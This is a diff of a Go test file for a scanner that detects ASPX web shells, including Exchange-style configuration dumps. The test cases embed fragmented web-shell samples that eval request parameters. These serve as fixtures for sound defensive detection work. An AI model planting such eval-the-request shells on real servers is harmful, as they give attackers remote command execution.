@@ -19,35 +19,47 @@ func TestInspect(t *testing.T) {
 	t.Parallel()
 	oneLiner := string(shellText("<scr", `ipt language="JScript" run`, `at="server">function Page_Load(){ev`, `al(Requ`, `est["k1"],"uns`, `afe");}</scr`, "ipt>"))
 	cases := map[string]struct {
+		path    string
 		content []byte
+		outcome Outcome
 		class   Class
 		key     string
 	}{
-		"a dump of settings with script in the external address is a shell":                 {dumpWith("http://f/" + oneLiner), Dump, "k1"},
-		"a dump of settings as an administrator saves it is nothing":                        {dumpWith("https://mail.example/OAB"), Nothing, ""},
-		"a page that runs the request is a shell":                                           {shellText("<%@ Page Language=\"Jscript\"%><%ev", "al(Requ", "est.Item[\"k2\"],\"un\"+\"safe\");%>"), Page, "k2"},
-		"a page with inline script that reads the request but runs nothing is nothing":      {shellText("<%@ Page %><script run", "at=\"server\">void Page_Load(){ name.Text = Requ", "est[\"name\"]; }</script>"), Nothing, ""},
-		"a note that quotes the shell is nothing":                                           {append([]byte("# What we found\n\nThe file held:\n"), dumpWith("http://f/"+oneLiner)...), Nothing, ""},
-		"an empty file is nothing":                                                          {nil, Nothing, ""},
-		"a comment between the call and its argument hides nothing":                         {shellText("<%@ Page %><%ev", "al/*x*/(Requ", "est[\"k3\"]);%>"), Page, "k3"},
-		"a page that mentions eval in one place and Request far away in another is nothing": {shellText("<%@ Page %><% evaluate(); %>", strings.Repeat("x;", 400), "<% a = Requ", "est[\"q\"]; %>"), Nothing, ""},
+		"a dump of settings with script in the external address is a shell":                 {"x.aspx", dumpWith("http://f/" + oneLiner), WebShell, Dump, "k1"},
+		"a dump of settings as an administrator saves it is nothing":                        {"x.txt", dumpWith("https://mail.example/OAB"), Nothing, "", ""},
+		"a dump whose address is what is left of script is for review":                      {"x.aspx", dumpWith("http://f/"), Review, Answer, ""},
+		"a page that runs the request is a shell":                                           {"x.aspx", shellText("<%@ Page Language=\"Jscript\"%><%ev", "al(Requ", "est.Item[\"k2\"],\"un\"+\"safe\");%>"), WebShell, RunsRequest, "k2"},
+		"a page with inline script that reads the request but runs nothing is nothing":      {"x.aspx", shellText("<%@ Page Language=\"C#\" %><script run", "at=\"server\">void Page_Load(){ name.Text = Requ", "est[\"name\"]; }</script>"), Nothing, "", ""},
+		"a note that quotes the shell is nothing":                                           {"note.txt", append([]byte("# What we found\n\nThe file held:\n"), dumpWith("http://f/"+oneLiner)...), Nothing, "", ""},
+		"a rule file that quotes the shell is nothing":                                      {"shell.yar", shellText("<% ev", "al(Requ", "est[\"q\"]) %>"), Nothing, "", ""},
+		"an empty file is nothing":                                                          {"x.aspx", nil, Nothing, "", ""},
+		"a comment between the call and its argument hides nothing":                         {"x.aspx", shellText("<%@ Page Language=\"JScript\" %><%ev", "al/*x*/(Requ", "est[\"k3\"]);%>"), WebShell, RunsRequest, "k3"},
+		"a page that mentions eval in one place and Request far away in another is nothing": {"x.aspx", shellText("<%@ Page Language=\"C#\" %><% evaluate(); %>", strings.Repeat("x;", 400), "<% a = Requ", "est[\"q\"]; %>"), Nothing, "", ""},
+		"a page in UTF-16 is read":                                                          {"x.aspx", wide(shellText("<%@ Page Language=\"JScript\" %><%ev", "al(Requ", "est[\"k4\"]);%>")), WebShell, RunsRequest, "k4"},
 	}
-	in := NewInspector()
 	for name, c := range cases {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			r := in.Inspect(c.content)
-			if r.Class != c.class || r.Key != c.key {
-				t.Fatalf("Inspect() = %q key %q, want %q key %q", r.Class, r.Key, c.class, c.key)
+			r := Inspect(c.path, c.content)
+			if r.Outcome != c.outcome || r.Class != c.class || r.Key != c.key {
+				t.Fatalf("Inspect() = %v %q key %q, want %v %q key %q", r.Outcome, r.Class, r.Key, c.outcome, c.class, c.key)
 			}
 		})
 	}
 }
 
+func wide(text []byte) []byte {
+	out := []byte{0xff, 0xfe}
+	for _, b := range text {
+		out = append(out, b, 0)
+	}
+	return out
+}
+
 func TestDumpCarriesItsOwnClock(t *testing.T) {
 	t.Parallel()
 	url := string(shellText("http://f/<scr", `ipt run`, `at="server">x</scr`, "ipt>"))
-	got := NewInspector().Inspect(dumpWith(url)).When
+	got := Inspect("x.aspx", dumpWith(url)).When
 	if want := time.Date(2021, 3, 3, 6, 49, 53, 0, time.UTC); !got.Equal(want) {
 		t.Fatalf("When = %v, want %v", got, want)
 	}
@@ -65,10 +77,4 @@ func TestServed(t *testing.T) {
 			t.Errorf("Served(%q) = %v, want %v", path, got, want)
 		}
 	}
-}
-
-func FuzzInspect(f *testing.F) {
-	f.Add(dumpWith("http://f/"))
-	in := NewInspector()
-	f.Fuzz(func(_ *testing.T, content []byte) { in.Inspect(content) })
 }
